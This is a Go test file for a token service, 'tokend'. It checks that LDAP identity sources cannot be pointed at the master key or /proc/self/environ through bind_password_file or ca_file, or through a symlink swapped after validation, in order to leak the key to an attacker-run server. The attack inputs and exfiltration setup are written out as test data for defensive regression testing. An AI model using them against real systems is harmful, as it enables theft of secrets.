package main

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"tokend/internal/credtest"
)

type problemBody struct {
	Code   string `json:"code"`
	Detail string `json:"detail"`
	Errors []struct {
		Field  string `json:"field"`
		Reason string `json:"reason"`
	} `json:"errors"`
}

// TestIdentitySourceFileExfiltration is the reported attack on a running
// tokend, with its real master key as the prize: a superadmin token creates
// an LDAP source whose bind_password_file is the master key (and probes
// with ca_file) and whose URL is a server the attacker runs, then asks for
// a sync. Creation is refused with 400, and the server never receives a
// byte of the key, although the control source (inline password) shows the
// server does hear a bind.
func TestIdentitySourceFileExfiltration(t *testing.T) {
	dir := t.TempDir()
	in := startTokend(t, dir)
	key, err := os.ReadFile(filepath.Join(dir, "master.key"))
	if err != nil {
		t.Fatal(err)
	}
	keyText := strings.TrimSpace(string(key))
	evil := credtest.NewRecorder(t)

	for _, tc := range []struct{ name, field, path string }{
		{"master key as bind password", "bind_password_file", filepath.Join(dir, "master.key")},
		{"environment as bind password", "bind_password_file", "/proc/self/environ"},
		{"ca_file probe of an existing file", "ca_file", filepath.Join(dir, "master.key")},
		{"ca_file probe of a missing file", "ca_file", filepath.Join(dir, "nope")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l := map[string]any{"url": evil.URL(), "bind_dn": "cn=x,dc=evil", "base_dn": "dc=evil", tc.field: tc.path}
			if tc.field == "ca_file" {
				l["bind_password"] = "p"
			}
			var p problemBody
			in.json(t, "POST", "/api/v1/identity-sources", map[string]any{"name": "evil", "type": "ldap", "ldap": l}, http.StatusBadRequest, &p)
			if p.Code != "invalid_request" || len(p.Errors) != 1 || p.Errors[0].Field != "ldap."+tc.field ||
				!strings.Contains(p.Errors[0].Reason, "identity_sources.credentials_dir") {
				t.Fatalf("problem %+v", p)
			}
		})
	}
	var list struct {
		Items []struct {
			ID string `json:"id"`
		} `json:"items"`
	}
	in.call(t, "GET", "/api/v1/identity-sources", "", nil, http.StatusOK, &list)
	if len(list.Items) != 0 {
		t.Fatalf("a refused source was stored: %+v", list.Items)
	}

	// Control: a source with an inline password does reach the server.
	var src struct {
		ID string `json:"id"`
	}
	in.json(t, "POST", "/api/v1/identity-sources", map[string]any{"name": "control", "type": "ldap",
		"ldap": map[string]any{"url": evil.URL(), "bind_dn": "cn=x,dc=evil", "bind_password": "inline-Control-pw", "base_dn": "dc=evil"}},
		http.StatusCreated, &src)
	in.call(t, "POST", "/api/v1/identity-sources/"+src.ID+"/sync", "", nil, http.StatusBadGateway, nil)
	waitFor(t, func() bool { _, got := evil.Seen(); return strings.Contains(got, "inline-Control-pw") })
	if _, got := evil.Seen(); strings.Contains(got, keyText) {
		t.Fatal("the master key reached the attacker")
	}
	if strings.Contains(in.logs.String(), keyText) {
		t.Fatal("the master key is in the logs")
	}
}

// TestIdentitySourceCredentialsDirEndToEnd: with identity_sources.
// credentials_dir set, a password file inside is accepted; when its
// symlink is later swapped to the master key, and when the daemon restarts
// without the directory, the sync refuses, the run records a fixed error,
// and the server never receives the key.
func TestIdentitySourceCredentialsDirEndToEnd(t *testing.T) {
	base := t.TempDir()
	dir, creds := filepath.Join(base, "data"), filepath.Join(base, "ldap")
	if err := os.Mkdir(creds, 0o700); err != nil {
		t.Fatal(err)
	}
	const filePW = "file-Inside-pw"
	if err := os.WriteFile(filepath.Join(creds, "real.pw"), []byte(filePW+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(creds, "bind.pw")
	if err := os.Symlink("real.pw", link); err != nil {
		t.Fatal(err)
	}
	conf := filepath.Join(base, "tokend.yaml")
	if err := os.WriteFile(conf, []byte("identity_sources:\n  credentials_dir: "+creds+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	evil := credtest.NewRecorder(t)
	in := startTokend(t, dir, "--config", conf)
	key, err := os.ReadFile(filepath.Join(dir, "master.key"))
	if err != nil {
		t.Fatal(err)
	}
	keyText := strings.TrimSpace(string(key))

	// Outside the directory: refused even now.
	var p problemBody
	in.json(t, "POST", "/api/v1/identity-sources", map[string]any{"name": "evil", "type": "ldap", "ldap": map[string]any{
		"url": evil.URL(), "bind_dn": "cn=x,dc=evil", "base_dn": "dc=evil", "bind_password_file": filepath.Join(dir, "master.key")}},
		http.StatusBadRequest, &p)
	if len(p.Errors) != 1 || p.Errors[0].Reason != "not usable (must be a readable, non-empty file inside credentials_dir)" {
		t.Fatalf("outside: %+v", p)
	}
	var src struct {
		ID string `json:"id"`
	}
	in.json(t, "POST", "/api/v1/identity-sources", map[string]any{"name": "corp", "type": "ldap", "ldap": map[string]any{
		"url": evil.URL(), "bind_dn": "cn=x,dc=evil", "base_dn": "dc=evil", "bind_password_file": link}},
		http.StatusCreated, &src)

	const wantErr = "ldap: bind_password_file: not usable (must be a readable, non-empty file inside credentials_dir)"
	syncRefused := func(in *instance) {
		t.Helper()
		var p problemBody
		in.call(t, "POST", "/api/v1/identity-sources/"+src.ID+"/sync", "", nil, http.StatusBadGateway, &p)
		if p.Code != "sync_failed" || !strings.Contains(p.Detail, wantErr) {
			t.Fatalf("sync: %+v", p)
		}
		var runs struct {
			Items []struct {
				Error string `json:"error"`
			} `json:"items"`
		}
		in.call(t, "GET", "/api/v1/identity-sources/"+src.ID+"/runs", "", nil, http.StatusOK, &runs)
		if len(runs.Items) == 0 || runs.Items[0].Error != wantErr {
			t.Fatalf("runs: %+v", runs)
		}
		if n, got := evil.Seen(); n != 0 || got != "" {
			t.Fatalf("the server was reached: %d connections, %q", n, got)
		}
	}

	// The symlink is swapped to the master key after the check at save.
	if err := os.Remove(link); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(dir, "master.key"), link); err != nil {
		t.Fatal(err)
	}
	syncRefused(in)

	// Restarted without the directory: the stored path is not read.
	if err := in.stop(); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(link); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("real.pw", link); err != nil {
		t.Fatal(err)
	}
	in2 := startTokend(t, dir)
	syncRefused(in2)
	if strings.Contains(in.logs.String()+in2.logs.String(), keyText) {
		t.Fatal("the master key is in the logs")
	}
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatal("condition not met in 10s")
		}
		time.Sleep(20 * time.Millisecond)
	}
}
